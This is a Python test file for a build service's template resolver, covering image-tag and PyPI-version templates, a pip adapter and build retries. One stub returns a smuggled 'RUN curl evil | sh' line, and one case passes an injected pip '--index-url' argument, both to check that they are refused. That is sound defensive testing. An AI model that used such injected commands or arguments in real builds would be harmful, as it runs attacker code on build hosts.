"""Build-time templates: finding them, resolving them against a registry, a scan store's digest memory and a package
index (fakes), the pip adapter over a stand-in pip and real pip on a local index, and the build state machine
building with what they resolved to."""

from __future__ import annotations

import hashlib
import http.server
import io
import os
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any, BinaryIO

import pytest

from shared.adapters.pip_index import PipIndex, index_trouble, interpret, parse_versions
from shared.bootstrap import Services, build_services
from shared.domain.builds import BuildRecord
from shared.domain.context import ContextManifest, FileEntry
from shared.domain.errors import BuilderUnavailable, BuildFailed, RegistryUnavailable
from shared.domain.patching import base_use, conclude
from shared.domain.plans import BuildPlan, GeneratedContext, GeneratedFile
from shared.domain.scans import RefFacts
from shared.domain.templates import (
    OverlayContext,
    image_sites,
    package_sites,
    resolution_line,
)
from shared.local_stack import worker_for
from shared.services.templates import TemplateResolver
from shared.services.worker import QueueWorker
from shared.settings import Settings
from tests.fakes.builder import FakeBuilder
from tests.fakes.package_index import FakePackageIndex, fake_pip, pip_calls
from tests.fakes.registry import FakeRegistry
from tests.fakes.scans import FakeScanStore
from tests.support import CORPUS, corpus

REPO = "mcr.microsoft.com/azureml/openmpi4.1.0-ubuntu22.04"
ACPT = "mcr.microsoft.com/aifx/acpt/stable-ubuntu2204-cu126-py310-torch280"
BIWEEKLY = r"{{latest-image-tag:biweekly\.\d{6}\.\d{1}.*}}"
RELEASES = {"azureml-core": ["1.60.0", "1.59.0"], "azureml-mlflow": ["1.60.0.post1"], "azureml-metrics": ["0.0.57"],
            "mldesigner": ["0.2.0b1", "0.1.0"], "azureml_acft_common_components": ["0.0.70"]}


class FilesContext:
    """A context from a dict; counts what is opened."""

    def __init__(self, files: dict[str, bytes], executable: frozenset[str] = frozenset()) -> None:
        self.files = files
        self.opened: list[str] = []
        self.manifest = ContextManifest.of(
            FileEntry(path=p, executable=p in executable, size=len(d), sha256=hashlib.sha256(d).hexdigest())
            for p, d in files.items())

    def open(self, rel: str) -> BinaryIO:
        self.opened.append(rel)
        return io.BytesIO(self.files[rel])

    def read_text(self, rel: str) -> str | None:
        data = self.files.get(rel)
        return None if data is None else data.decode()


def docker_plan(dockerfile: str) -> BuildPlan:
    return BuildPlan(context_digest="sha256:" + "0" * 64, dockerfile_path="Dockerfile", dockerfile=dockerfile)


@pytest.fixture
def registry() -> FakeRegistry:
    fake = FakeRegistry()
    latest = fake.push(f"{REPO}:20240115.v1")  # the one `latest` names
    fake.push(f"{REPO}:latest", latest)
    fake.push(f"{REPO}:20240201.v1")  # newer, but another image (latest not moved yet)
    fake.push(f"{REPO}:20231201.v1")
    fake.push(f"{REPO}:20240115.v1-slim", latest)  # not the dated scheme
    return fake


@pytest.fixture
def scans() -> FakeScanStore:
    return FakeScanStore()


@pytest.fixture
def index() -> FakePackageIndex:
    return FakePackageIndex(RELEASES)


@pytest.fixture
def resolver(registry: FakeRegistry, scans: FakeScanStore, index: FakePackageIndex) -> TemplateResolver:
    return TemplateResolver(registry, scans, index, "docker.io")


def manifest_matches(context: Any) -> None:
    for entry in context.manifest.files:
        with context.open(entry.path) as handle:
            data = handle.read()
        assert (entry.size, entry.sha256) == (len(data), hashlib.sha256(data).hexdigest()), entry.path


# -- finding templates ----------------------------------------------------------------------------------------


def test_package_sites_read_the_pins_the_corpus_writes() -> None:
    text = ("# azureml-metrics[video]~={{latest-pypi-version}}\n"
            "  - azureml-core=={{latest-pypi-version}}\n"
            "azureml-metrics[image]~={{latest-pypi-version}}\n"
            "RUN pip install 'azureml-dataset-runtime=={{latest-pypi-version}}' \\\n"
            "    azureml_acft_common_components=={{latest-pypi-version}} \\\n"
            "    mldesigner=={{latest-pypi-version:pre}}\n")
    sites = package_sites(text, where="f")
    assert [(s.package, s.pre, s.line, s.written) for s in sites] == [
        ("azureml-core", False, 2, "azureml-core=={{latest-pypi-version}}"),
        ("azureml-metrics", False, 3, "azureml-metrics[image]~={{latest-pypi-version}}"),
        ("azureml-dataset-runtime", False, 4, "azureml-dataset-runtime=={{latest-pypi-version}}"),
        ("azureml_acft_common_components", False, 5, "azureml_acft_common_components=={{latest-pypi-version}}"),
        ("mldesigner", True, 6, "mldesigner=={{latest-pypi-version:pre}}")]
    assert [text[s.start:s.end] for s in sites][-1] == "{{latest-pypi-version:pre}}"
    assert sites[1].pinned("0.0.57") == "azureml-metrics[image]~=0.0.57"


@pytest.mark.parametrize(("text", "words"), [
    ("RUN echo {{latest-pypi-version}}\n", ["line 1", "must follow a package pin"]),
    ("x==1\npkg=={{latest-pypi-version:post}}\n", ["line 2", "unknown flag 'post'"]),
])
def test_a_template_envhub_cannot_resolve_is_refused(text: str, words: list[str]) -> None:
    with pytest.raises(BuildFailed) as caught:
        package_sites(text, where="context/requirements.txt")
    assert all(word in str(caught.value) for word in words) and caught.value.where == "context/requirements.txt"


def test_image_sites_name_the_word_around_each_template() -> None:
    text = (f"# FROM old:{{{{latest-image-tag}}}}\nFROM --platform=linux/amd64 {REPO}:{{{{latest-image-tag}}}} AS a\n"
            f"COPY --from=x.io/y:{BIWEEKLY} / /\n")
    sites = image_sites(text)
    assert [(s.token, s.pattern, s.line) for s in sites] == [
        (f"{REPO}:{{{{latest-image-tag}}}}", None, 2), (f"--from=x.io/y:{BIWEEKLY}", r"biweekly\.\d{6}\.\d{1}.*", 3)]


def test_overlay_serves_changed_files_from_memory_and_the_rest_untouched() -> None:
    base = FilesContext({"Dockerfile": b"FROM a\n", "run.sh": b"#!/bin/sh\n", "req.txt": b"x\n"},
                        executable=frozenset({"run.sh", "req.txt"}))
    overlay = OverlayContext(base, {"req.txt": b"x==1.0\n"})
    assert overlay.manifest.get("run.sh") == base.manifest.get("run.sh")
    assert overlay.manifest.get("req.txt") == FileEntry(path="req.txt", executable=True, size=7,
                                                        sha256=hashlib.sha256(b"x==1.0\n").hexdigest())
    assert overlay.manifest.dirs == base.manifest.dirs and overlay.read_text("req.txt") == "x==1.0\n"
    manifest_matches(overlay)
    assert base.opened == ["Dockerfile", "run.sh"]  # the changed file never read from underneath


# -- {{latest-image-tag}} --------------------------------------------------------------------------------------


def test_the_newest_dated_tag_naming_latests_image_is_built_from(resolver: TemplateResolver,
                                                                   registry: FakeRegistry) -> None:
    written = f"{REPO}:{{{{latest-image-tag}}}}"
    plan = docker_plan(f"FROM {written}\nRUN echo ok\n")
    context = FilesContext({"Dockerfile": plan.dockerfile.encode(), "app.py": b"print('hi')\n"})
    built, given, resolved = resolver.resolve(plan, context)
    assert built.dockerfile == f"FROM {REPO}:20240115.v1\nRUN echo ok\n"
    assert resolved == {written: f"{REPO}:20240115.v1"}
    assert given.read_text("Dockerfile") == built.dockerfile and given.read_text("app.py") == "print('hi')\n"
    manifest_matches(given)
    assert plan.dockerfile.startswith(f"FROM {written}")  # the stored plan keeps what the definition wrote
    asked = [what for method, what in registry.log if method == "head"]
    assert asked == [f"{REPO}:latest", f"{REPO}:20240201.v1", f"{REPO}:20240115.v1"]  # newest first, then stop
    assert resolution_line(written, resolved[written]) == (
        f"envhub: {{{{latest-image-tag}}}} in FROM {written} resolved to {REPO}:20240115.v1")


def test_a_second_resolution_asks_only_for_the_tag_list_and_latest(resolver: TemplateResolver,
                                                                   registry: FakeRegistry,
                                                                   scans: FakeScanStore) -> None:
    plan = docker_plan(f"FROM {REPO}:{{{{latest-image-tag}}}}\n")
    context = FilesContext({"Dockerfile": plan.dockerfile.encode()})
    resolver.resolve(plan, context)
    assert scans.known_digests(REPO) == {"20240201.v1": registry.digests[f"{REPO}:20240201.v1"],
                                         "20240115.v1": registry.digests[f"{REPO}:20240115.v1"]}
    registry.log.clear()
    again = TemplateResolver(registry, scans, FakePackageIndex(), "docker.io")  # another worker, same memory
    assert again.resolve(plan, context)[2] == {f"{REPO}:{{{{latest-image-tag}}}}": f"{REPO}:20240115.v1"}
    assert registry.log == [("tags", REPO), ("head", f"{REPO}:latest")]


def test_latest_moving_to_a_remembered_tag_is_followed_without_asking_digests(
        resolver: TemplateResolver, registry: FakeRegistry) -> None:
    plan = docker_plan(f"FROM {REPO}:{{{{latest-image-tag}}}}\n")
    context = FilesContext({"Dockerfile": plan.dockerfile.encode()})
    resolver.resolve(plan, context)
    registry.push(f"{REPO}:latest", registry.digests[f"{REPO}:20240201.v1"])
    registry.log.clear()
    assert resolver.resolve(plan, context)[0].dockerfile == f"FROM {REPO}:20240201.v1\n"
    assert registry.log == [("tags", REPO), ("head", f"{REPO}:latest")]


def test_a_regex_template_picks_from_its_own_scheme(resolver: TemplateResolver, registry: FakeRegistry) -> None:
    image = registry.push(f"{ACPT}:biweekly.202502.1")
    registry.push(f"{ACPT}:latest", image)
    registry.push(f"{ACPT}:biweekly.202501.2")
    registry.push(f"{ACPT}:20250301.v1", image)  # the dated scheme: not what the regex asks for
    plan = docker_plan(f"FROM {ACPT}:{BIWEEKLY}\n")
    _, _, resolved = resolver.resolve(plan, FilesContext({"Dockerfile": plan.dockerfile.encode()}))
    assert resolved == {f"{ACPT}:{BIWEEKLY}": f"{ACPT}:biweekly.202502.1"}


def test_stages_args_and_copy_from_each_get_their_own_image(resolver: TemplateResolver,
                                                            registry: FakeRegistry) -> None:
    other = "registry.test/tools"
    registry.push(f"{other}:latest", registry.push(f"{other}:20240301.v2"))
    dockerfile = (f"ARG TOOLS_TAG={{{{latest-image-tag}}}}\n"
                  f"FROM {other}:${{TOOLS_TAG}} AS tools\n"
                  f"FROM {REPO}:{{{{latest-image-tag}}}}\n"
                  "COPY --from=tools /bin/x /bin/x\n"
                  f"# FROM nowhere:{{{{latest-image-tag}}}}\n")
    built, _, resolved = resolver.resolve(docker_plan(dockerfile), FilesContext({"Dockerfile": dockerfile.encode()}))
    assert built.dockerfile == dockerfile.replace(
        "TOOLS_TAG={{latest-image-tag}}", "TOOLS_TAG=20240301.v2").replace(
        f"{REPO}:{{{{latest-image-tag}}}}", f"{REPO}:20240115.v1")
    assert resolved == {f"{other}:{{{{latest-image-tag}}}}": f"{other}:20240301.v2",
                        f"{REPO}:{{{{latest-image-tag}}}}": f"{REPO}:20240115.v1"}


def test_an_arg_shared_by_two_repositories_is_refused(resolver: TemplateResolver, registry: FakeRegistry) -> None:
    registry.push("registry.test/tools:latest", registry.push("registry.test/tools:20240301.v2"))
    dockerfile = (f"ARG TAG={{{{latest-image-tag}}}}\nFROM registry.test/tools:${{TAG}} AS tools\n"
                  f"FROM {REPO}:${{TAG}}\n")
    with pytest.raises(BuildFailed, match="line 1: cannot tell which image"):
        resolver.resolve(docker_plan(dockerfile), FilesContext({"Dockerfile": dockerfile.encode()}))


@pytest.mark.parametrize(("arrange", "words"), [
    (lambda r: None, ["{{latest-image-tag:nightly-\\d+}}", REPO, "no tag", "matching 'nightly-\\d+'"]),
    (lambda r: r.untag(f"{REPO}:latest"), ["{{latest-image-tag:nightly-\\d+}}", REPO, "no 'latest' tag"]),
])
def test_a_template_with_no_matching_tag_fails_naming_it_and_its_repository(
        resolver: TemplateResolver, registry: FakeRegistry, arrange: Any, words: list[str]) -> None:
    arrange(registry)
    plan = docker_plan(f"FROM {REPO}:{{{{latest-image-tag:nightly-\\d+}}}}\n")
    with pytest.raises(BuildFailed) as caught:
        resolver.resolve(plan, FilesContext({"Dockerfile": plan.dockerfile.encode()}))
    assert all(word in str(caught.value) for word in words), str(caught.value)


def test_no_dated_tag_naming_latest_fails(resolver: TemplateResolver, registry: FakeRegistry,
                                          scans: FakeScanStore) -> None:
    registry.push(f"{REPO}:latest")  # an image no dated tag names
    plan = docker_plan(f"FROM {REPO}:{{{{latest-image-tag}}}}\n")
    with pytest.raises(BuildFailed, match=r"no tag of .* of the dated scheme"):
        resolver.resolve(plan, FilesContext({"Dockerfile": plan.dockerfile.encode()}))
    assert set(scans.known_digests(REPO)) == {"20240201.v1", "20240115.v1", "20231201.v1"}  # asked, so remembered


def test_a_registry_outage_propagates_for_the_queue_to_retry(resolver: TemplateResolver,
                                                             registry: FakeRegistry) -> None:
    registry.down.add("mcr.microsoft.com")
    plan = docker_plan(f"FROM {REPO}:{{{{latest-image-tag}}}}\n")
    with pytest.raises(RegistryUnavailable):
        resolver.resolve(plan, FilesContext({"Dockerfile": plan.dockerfile.encode()}))


def test_a_scan_store_that_does_not_answer_only_costs_round_trips(resolver: TemplateResolver,
                                                                  scans: FakeScanStore) -> None:
    scans.down = True
    plan = docker_plan(f"FROM {REPO}:{{{{latest-image-tag}}}}\n")
    assert resolver.resolve(plan, FilesContext({"Dockerfile": plan.dockerfile.encode()}))[0].dockerfile == (
        f"FROM {REPO}:20240115.v1\n")


# -- {{latest-pypi-version}} -----------------------------------------------------------------------------------


def test_package_versions_are_resolved_in_every_text_file(resolver: TemplateResolver,
                                                           index: FakePackageIndex) -> None:
    dockerfile = ("FROM python:3.11\nCOPY requirements.txt conda.yaml /tmp/\n"
                  "RUN pip install 'azureml-core=={{latest-pypi-version}}' \\\n"
                  "    Azureml.Core=={{latest-pypi-version}}\n")
    files = {"Dockerfile": dockerfile.encode(),
             "requirements.txt": b"azureml-metrics[image]~={{latest-pypi-version}}\n"
                                 b"# azureml-gone=={{latest-pypi-version}}\nmldesigner=={{latest-pypi-version:pre}}\n",
             "conda.yaml": b"dependencies:\n  - pip:\n    - azureml-mlflow=={{latest-pypi-version}}\n"
                           b"    - azureml_acft_common_components=={{latest-pypi-version}}\n",
             "run.sh": b"#!/bin/sh\necho {{not a template}}\n",
             "weights.bin": bytes(range(256)) + b"{{latest-pypi-version}}"}  # not text: left alone
    context = FilesContext(files, executable=frozenset({"run.sh"}))
    plan = docker_plan(dockerfile)
    built, given, resolved = resolver.resolve(plan, context)
    assert built.dockerfile == ("FROM python:3.11\nCOPY requirements.txt conda.yaml /tmp/\n"
                                "RUN pip install 'azureml-core==1.60.0' \\\n    Azureml.Core==1.60.0\n")
    assert given.read_text("requirements.txt") == ("azureml-metrics[image]~=0.0.57\n"
                                                   "# azureml-gone=={{latest-pypi-version}}\nmldesigner==0.2.0b1\n")
    assert given.read_text("conda.yaml") == ("dependencies:\n  - pip:\n    - azureml-mlflow==1.60.0.post1\n"
                                             "    - azureml_acft_common_components==0.0.70\n")
    for untouched in ("run.sh", "weights.bin"):
        assert given.manifest.get(untouched) == context.manifest.get(untouched)
        with given.open(untouched) as handle:
            assert handle.read() == files[untouched]
    assert isinstance(given, OverlayContext) and given.changed == {"Dockerfile", "requirements.txt", "conda.yaml"}
    manifest_matches(given)
    assert resolved == {
        "azureml-core=={{latest-pypi-version}}": "azureml-core==1.60.0",
        "Azureml.Core=={{latest-pypi-version}}": "Azureml.Core==1.60.0",
        "azureml-metrics[image]~={{latest-pypi-version}}": "azureml-metrics[image]~=0.0.57",
        "mldesigner=={{latest-pypi-version:pre}}": "mldesigner==0.2.0b1",
        "azureml-mlflow=={{latest-pypi-version}}": "azureml-mlflow==1.60.0.post1",
        "azureml_acft_common_components=={{latest-pypi-version}}": "azureml_acft_common_components==0.0.70"}
    assert index.calls[("azureml-core", False)] == 1 and sum(index.calls.values()) == 5  # one per package
    assert ("mldesigner", True) in index.calls
    assert resolution_line("mldesigner=={{latest-pypi-version:pre}}", "mldesigner==0.2.0b1") == (
        "envhub: {{latest-pypi-version:pre}} in mldesigner=={{latest-pypi-version:pre}} resolved to "
        "mldesigner==0.2.0b1")


def test_a_generated_plan_gets_its_conda_file_resolved(resolver: TemplateResolver) -> None:
    conda = "dependencies:\n- python=3.11\n- pip:\n  - azureml-core=={{latest-pypi-version}}\n"
    plan = BuildPlan(context_digest=None, dockerfile_path="Dockerfile",
                     dockerfile=f"FROM {REPO}:{{{{latest-image-tag}}}}\n",
                     generated=(GeneratedFile(path="setup/conda.yaml", content=conda),))
    built, given, resolved = resolver.resolve(plan, GeneratedContext(plan))
    assert built.generated == (GeneratedFile(path="setup/conda.yaml",
                                             content=conda.replace("{{latest-pypi-version}}", "1.60.0")),)
    assert given.read_text("setup/conda.yaml") == built.generated[0].content
    assert given.read_text("Dockerfile") == built.dockerfile == f"FROM {REPO}:20240115.v1\n"
    manifest_matches(given)
    assert list(resolved) == [f"{REPO}:{{{{latest-image-tag}}}}", "azureml-core=={{latest-pypi-version}}"]


def test_a_plan_without_templates_passes_through(resolver: TemplateResolver, registry: FakeRegistry) -> None:
    plan = docker_plan("FROM python:3.11\nRUN echo {{.Id}}\n")
    context = FilesContext({"Dockerfile": plan.dockerfile.encode(), "big.txt": b"{{latest-" + b"x" * (2 << 20)})
    assert resolver.resolve(plan, context) == (plan, context, {})
    assert registry.log == [] and context.opened == []  # the Dockerfile is the plan's; big.txt is over the limit


@pytest.mark.parametrize(("package", "error", "words"), [
    ("azureml-nowhere", BuildFailed, ["line 2", "azureml-nowhere=={{latest-pypi-version}}", "no release",
                                      "azureml-nowhere"]),
    ("azureml-core", BuilderUnavailable, ["does not answer"]),
])
def test_an_unknown_package_fails_and_an_index_outage_is_retried(
        resolver: TemplateResolver, index: FakePackageIndex, package: str, error: type[Exception],
        words: list[str]) -> None:
    index.down = package == "azureml-core"
    plan = docker_plan("FROM python:3.11\n")
    context = FilesContext({"Dockerfile": plan.dockerfile.encode(),
                            "requirements.txt": f"numpy\n{package}=={{{{latest-pypi-version}}}}\n".encode()})
    with pytest.raises(error) as caught:
        resolver.resolve(plan, context)
    assert all(word in str(caught.value) for word in words), str(caught.value)
    if error is BuildFailed:
        assert getattr(caught.value, "where", None) == "requirements.txt"


class _OddIndex:
    def latest_version(self, package: str, *, pre: bool = False) -> str:
        return "1.0\nRUN curl evil | sh"


def test_an_answer_that_is_no_version_is_refused(registry: FakeRegistry, scans: FakeScanStore) -> None:
    plan = docker_plan("FROM python:3.11\nRUN pip install x=={{latest-pypi-version}}\n")
    with pytest.raises(BuildFailed, match="which is no version"):
        TemplateResolver(registry, scans, _OddIndex(), "docker.io").resolve(
            plan, FilesContext({"Dockerfile": plan.dockerfile.encode()}))


def test_every_curated_environment_of_the_corpus_resolves(tmp_path: Path) -> None:
    """Whatever the corpus writes, the resolver understands: no template is left where something builds from it."""
    corpus()  # skipped on a developer's machine without it, failed in CI
    services = build_services(Settings(data_dir=tmp_path / "data", curated_dir=CORPUS / "curated"))
    registry, index = FakeRegistry(), _AnyIndex()
    resolver = TemplateResolver(registry, FakeScanStore(), index, "docker.io")
    templated = 0
    for record in services.catalog.all():
        plan = services.images.plan(record)
        context = services.contexts.get(plan.context_digest) if plan.context_digest else GeneratedContext(plan)
        assert context is not None
        for text in record.description.base_images:
            use = base_use(text, default_registry="docker.io")
            if use is not None and use.template:
                tag = "biweekly.202501.1" if "biweekly" in use.reference else "20250101.v1"
                registry.push(f"{use.repository}:latest", registry.push(f"{use.repository}:{tag}"))
        built, given, resolved = resolver.resolve(plan, context)
        templated += bool(resolved)
        for entry in given.manifest.files:
            with given.open(entry.path) as handle:
                data = handle.read()
            if b"{{latest-" not in data:
                continue
            left = [line for line in data.decode().splitlines()
                    if "{{latest-" in line and not line.lstrip().startswith("#")]
            assert not left, f"{record.name}: {entry.path}: {left}"
        manifest_matches(given)
        assert built.dockerfile == given.read_text(built.dockerfile_path)
    assert templated >= 30 and index.asked >= 20


class _AnyIndex:
    def __init__(self) -> None:
        self.asked = 0
        self._lock = threading.Lock()

    def latest_version(self, package: str, *, pre: bool = False) -> str:
        with self._lock:
            self.asked += 1
        return "9.9.0rc1" if pre else "9.9.0"


# -- the pip adapter -------------------------------------------------------------------------------------------

PIP_TEXT = """\
1 location(s) to search for versions of demo-pkg:
Starting new HTTP connection (1): 127.0.0.1:8765
demo-pkg (1.10.0)
Available versions: 1.10.0, 1.2.0, 1.0.0
  INSTALLED: 1.2.0
  LATEST:    1.10.0
"""


def test_pips_answers_are_read_in_every_shape_it_prints() -> None:
    assert parse_versions(PIP_TEXT) == ["1.10.0", "1.2.0", "1.0.0"]
    assert parse_versions("demo-pkg (1.10.0)\nAvailable versions: 1.10.0\n") == ["1.10.0"]
    assert parse_versions('{"name": "x", "versions": ["2.0", "1.0"], "latest": "2.0"}\n') == ["2.0", "1.0"]
    assert parse_versions("WARNING: something\n") == []
    assert interpret("demo-pkg", 0, PIP_TEXT, "WARNING: Location 'file:///x' is ignored\n") == "1.10.0"


@pytest.mark.parametrize(("stdout", "stderr", "error", "words"), [
    ("Could not fetch URL http://i/simple/x/: 404 Client Error: Not Found for url: http://i/simple/x/ - skipping\n",
     "ERROR: No matching distribution found for x\n", BuildFailed, ["no release", "'x'"]),
    ("", "ERROR: No matching distribution found for x\n", BuildFailed, ["pre-releases are left out"]),
    ("Could not fetch URL http://i/simple/x/: connection error: [Errno 111] Connection refused - skipping\n",
     "ERROR: No matching distribution found for x\n", BuilderUnavailable, ["Connection refused"]),
    ("Could not fetch URL http://a/simple/x/: 404 Client Error: Not Found for url: http://a/simple/x/ - skipping\n"
     "Could not fetch URL http://b/simple/x/: 403 Client Error: Forbidden for url: http://b/simple/x/ - skipping\n",
     "ERROR: No matching distribution found for x\n", BuilderUnavailable, ["403 Client Error"]),
    ("", "WARNING: Retrying (Retry(total=0)) after connection broken by 'NewConnectionError()': /simple/x/\n"
     "ERROR: No matching distribution found for x\n", BuilderUnavailable, ["Retrying"]),
    ("", "Traceback (most recent call last):\nKeyError: 'boom'\n", BuilderUnavailable, ["KeyError: 'boom'"]),
])
def test_not_found_and_index_trouble_are_told_apart(stdout: str, stderr: str, error: type[Exception],
                                                    words: list[str]) -> None:
    with pytest.raises(error) as caught:
        interpret("x", 1, stdout, stderr)
    assert all(word in str(caught.value) for word in words), str(caught.value)


def test_index_trouble_ignores_pages_that_do_not_exist() -> None:
    assert index_trouble("WARNING: Retrying (Retry(total=1)) after ...\nCould not fetch URL http://i/simple/x/: "
                         "404 Client Error: Not Found for url: http://i/simple/x/ - skipping\n") == []


def test_the_adapter_runs_pip_and_reads_its_answer(tmp_path: Path) -> None:
    command = fake_pip(tmp_path)
    pip = PipIndex(command, timeout=20)
    pip.check()
    assert pip.latest_version("demo-pkg") == "1.10.0"
    assert pip.latest_version("demo-pkg", pre=True) == "2.0.0rc1"
    assert pip.latest_version("json-pkg") == "3.1.0"
    calls = pip_calls(command)
    assert calls[1][:3] == ["index", "versions", "demo-pkg"] and "-vv" in calls[1] and "--pre" not in calls[1]
    assert "--pre" in calls[2] and "--no-input" in calls[2]


@pytest.mark.parametrize(("package", "error", "words"), [
    ("missing-pkg", BuildFailed, ["has no release", "missing-pkg"]),
    ("offline-pkg", BuilderUnavailable, ["connection error", "Connection refused"]),
    ("flaky-pkg", BuilderUnavailable, ["too many 503 error responses"]),
    ("garbled-pkg", BuildFailed, ["cannot read", "something pip never printed"]),
    ("broken-pkg", BuilderUnavailable, ["KeyError"]),
    ("slow-pkg", BuilderUnavailable, ["longer than 1 s"]),
    ("--index-url=http://elsewhere", BuildFailed, ["is not a package name"]),
])
def test_the_adapter_reports_what_went_wrong(tmp_path: Path, package: str, error: type[Exception],
                                             words: list[str]) -> None:
    command = fake_pip(tmp_path)
    started = time.monotonic()
    with pytest.raises(error) as caught:
        PipIndex(command, timeout=1 if package == "slow-pkg" else 20).latest_version(package)
    assert all(word in str(caught.value) for word in words), str(caught.value)
    assert time.monotonic() - started < 15
    if package.startswith("--"):
        assert pip_calls(command) == []  # never handed to pip


def test_a_pip_that_cannot_run_is_unavailable(tmp_path: Path) -> None:
    with pytest.raises(BuilderUnavailable, match="could not run pip"):
        PipIndex([str(tmp_path / "no-such-pip")]).latest_version("demo-pkg")


class _SimpleIndex(http.server.BaseHTTPRequestHandler):
    """A PEP 503 index of one package on loopback; /broken/ answers 503."""

    def do_GET(self) -> None:
        if self.path.startswith("/broken/"):
            self.send_response(503)
            self.end_headers()
            return
        if self.path.rstrip("/") != "/simple/demo-pkg":
            self.send_error(404)
            return
        links = "".join(f'<a href="/files/demo_pkg-{v}-py3-none-any.whl">demo_pkg-{v}-py3-none-any.whl</a>\n'
                        for v in ("1.0.0", "1.2.0", "2.0.0rc1", "1.10.0"))
        body = f"<!DOCTYPE html><html><body>\n{links}</body></html>\n".encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def simple_index() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _SimpleIndex)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_real_pip_on_a_local_index(simple_index: str, tmp_path: Path) -> None:
    """pip itself, configured only by the environment we give it (no config files), against a loopback index."""

    def pip(index_url: str) -> PipIndex:
        env = {"PATH": os.environ.get("PATH", ""), "HOME": str(tmp_path), "PIP_CONFIG_FILE": os.devnull,
               "PIP_INDEX_URL": index_url, "PIP_RETRIES": "0", "PIP_TIMEOUT": "5", "PIP_NO_CACHE_DIR": "1"}
        return PipIndex([sys.executable, "-m", "pip"], timeout=60, env=env)

    assert pip(f"http://{simple_index}/simple/").latest_version("demo-pkg") == "1.10.0"
    assert pip(f"http://{simple_index}/simple/").latest_version("Demo_Pkg", pre=True) == "2.0.0rc1"
    with pytest.raises(BuildFailed, match="has no release"):
        pip(f"http://{simple_index}/simple/").latest_version("nope-pkg")
    with pytest.raises(BuilderUnavailable, match="503"):
        pip(f"http://{simple_index}/broken/").latest_version("demo-pkg")
    with pytest.raises(BuilderUnavailable, match="onnection"):
        pip("http://127.0.0.1:9/simple/").latest_version("demo-pkg")


# -- the build state machine -----------------------------------------------------------------------------------

BASE = "registry.test/azureml/base"
CONDA = {"dependencies": ["python=3.11", {"pip": ["azureml-core=={{latest-pypi-version}}"]}]}


def wire(tmp_path: Path, *, templates: bool = True) -> tuple[Services, QueueWorker, FakeBuilder, FakeRegistry,
                                                              FakePackageIndex]:
    registry = FakeRegistry()
    registry.push(f"{BASE}:latest", registry.push(f"{BASE}:20240101.v1"))
    registry.push(f"{BASE}:20231201.v1")
    fake = FakeBuilder(registry.digests)
    settings = Settings(data_dir=tmp_path / "data", registry="reg:5000", queue_max_attempts=3,
                        queue_backoff_seconds=0.01, queue_visibility_seconds=5, build_check_seconds=0.01,
                        build_check_max_seconds=0.02, allowed_registries="registry.test")
    scans = FakeScanStore()
    services = build_services(settings, registry=registry, builder=fake, scans=scans)
    index = FakePackageIndex(RELEASES)
    # The fake index instead of pip, or (to check the refusal) no resolver at all.
    services.building.templates = TemplateResolver(registry, scans, index, settings.default_registry) \
        if templates else None
    services.environments.register(workspace="w", name="e",
                                   document={"image": f"{BASE}:{{{{latest-image-tag}}}}", "conda_file": CONDA})
    return services, worker_for(services), fake, registry, index


def drain(services: Services, worker: QueueWorker) -> BuildRecord:
    ensured = services.images.ensure(workspace="w", name="e", version="1").build
    assert ensured is not None
    for _ in range(500):
        build = services.images.builds.get(ensured.id)
        assert build is not None
        if build.status.finished and not services.ports["queue"].adapter.depth():
            return build
        worker.run_once()
        time.sleep(0.005)
    raise AssertionError("the build did not finish")


def test_a_build_uses_what_its_templates_resolve_to(tmp_path: Path) -> None:
    services, worker, fake, registry, _ = wire(tmp_path)
    done = drain(services, worker)
    assert done.status == "succeeded", done.reason
    written = f"{BASE}:{{{{latest-image-tag}}}}"
    assert done.resolved == {written: f"{BASE}:20240101.v1",
                             "azureml-core=={{latest-pypi-version}}": "azureml-core==1.60.0"}
    # keyed as the definition writes the base (the patch scan's key), valued with the resolved image's digest
    assert done.base_digests == {written: registry.digests[f"{BASE}:20240101.v1"]}
    (run,) = fake.runs.values()
    assert run.plan.dockerfile.startswith(f"# step 1: the base image\nFROM {BASE}:20240101.v1\n")
    assert done.plan is not None and done.plan.dockerfile.startswith(f"# step 1: the base image\nFROM {written}\n")
    conda = run.context.read_text("azureml-environment-setup/conda_dependencies.yaml")
    assert conda is not None and "azureml-core==1.60.0" in conda and "{{" not in conda
    manifest_matches(run.context)
    log = services.images.builds.read_log(done.id, 0)
    assert f"envhub: {{{{latest-image-tag}}}} in FROM {written} resolved to {BASE}:20240101.v1" in log
    assert ("envhub: {{latest-pypi-version}} in azureml-core=={{latest-pypi-version}} resolved to "
            "azureml-core==1.60.0") in log
    assert f"envhub: base image {BASE}:20240101.v1 ({written}) is {registry.digests[f'{BASE}:latest']}" in log
    details = services.images.details(workspace="w", name="e", version="1")
    assert details.resolved == done.resolved and details.dockerfile == done.plan.dockerfile
    # the patch scan judges the base as written against the digest the build recorded: nothing moved
    use = base_use(written, default_registry="docker.io")
    assert use is not None
    facts = services.scanning.observe(use.repository, [use.reference])[0][use.reference]
    assert facts == RefFacts(digest=registry.digests[f"{BASE}:latest"], resolved_tag="20240101.v1")
    assert conclude(use, facts, done.base_digests[written], done.created_at) is None


def test_without_a_resolver_a_templated_plan_still_fails(tmp_path: Path) -> None:
    services, worker, fake, _, _ = wire(tmp_path, templates=False)
    done = drain(services, worker)
    assert done.status == "failed" and "build-time templates" in (done.reason or "") and not fake.runs


def test_an_unknown_package_fails_the_build_with_the_reason(tmp_path: Path) -> None:
    services, worker, fake, _, index = wire(tmp_path)
    index.releases.pop("azureml-core")
    done = drain(services, worker)
    assert done.status == "failed" and not fake.runs
    assert "azureml-core=={{latest-pypi-version}}" in (done.reason or "") and "no release" in (done.reason or "")


def test_an_index_that_does_not_answer_is_retried_then_given_up(tmp_path: Path) -> None:
    services, worker, fake, _, index = wire(tmp_path)
    index.down = True
    done = drain(services, worker)
    assert done.status == "failed" and not fake.runs and "gave up after 3 attempts" in (done.reason or "")
    assert index.calls[("azureml-core", False)] == 3
